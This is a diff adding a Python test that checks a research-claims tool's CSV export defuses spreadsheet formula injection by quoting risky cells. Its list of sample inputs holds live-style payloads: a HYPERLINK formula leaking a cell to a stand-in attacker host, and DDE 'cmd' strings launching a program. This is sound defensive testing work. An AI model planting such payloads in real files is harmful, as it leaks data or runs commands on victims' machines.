@@ -3,6 +3,8 @@ their effective verdicts and edge ids; bad input is one line and no file."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import bibtexparser
@@ -93,3 +95,37 @@ def test_papers_keep_their_authors_as_family_given(tmp_path):
     task = store.create_task("q")
     store.replace_partition("papers", task.id, frame)
     assert list(store.read_partition("papers", task.id).iloc[0]["authors"]) == ["Smith, Jane Q.", "van Beethoven, Ludwig"]
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "=1+1\n", "Vitamin D = good"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path):
+    store, graph, _ = graph_with_authors(tmp_path)
+    written = store.read_partition("claims", graph.task_id).drop(columns="task_id")
+    in_force = [graph.claims[n] for n in ("hip", "none", "falls", "user")]
+    for batch in (FORMULAS[:4], FORMULAS[4:]):  # four claims in force: four texts a round
+        claims = written.copy()
+        for claim_id, text in zip(in_force, batch, strict=True):
+            claims.loc[claims["claim_id"] == claim_id, "text"] = text
+        store.replace_partition("claims", graph.task_id, claims)
+        table = export.export(store, graph.task_id, "csv")
+        rows = list(csv.DictReader(io.StringIO(table, newline="")))
+        texts = {r["claim_id"]: r["text"] for r in rows}
+        for claim_id, text in zip(in_force, batch, strict=True):
+            if text[0] in "=+-@\t\r\n":
+                assert texts[claim_id] == "'" + text  # shown as the text it is, never run
+            else:
+                assert texts[claim_id] == text
+        assert len(rows) == 4  # a line break inside a text never starts a row
+        for row in rows:  # no cell a spreadsheet runs
+            assert not [v for v in row.values() if v[:1] and v[:1] in "=+-@\t\r\n"], row
+        # text cells are quoted, numbers are not: a reader that turns unquoted cells to numbers gets numbers
+        header, *typed = csv.reader(io.StringIO(table, newline=""), quoting=csv.QUOTE_NONNUMERIC)
+        for row in (dict(zip(header, cells, strict=True)) for cells in typed):
+            assert isinstance(row["text"], str) and isinstance(row["claim_id"], str)
+            for column in ("confidence", "uncertainty", "supporting", "refuting"):
+                assert isinstance(row[column], float) and row[column] >= 0
+    assert export.csv_cell(-0.25) == -0.25 and export.csv_cell("-0.25") == "'-0.25"
+
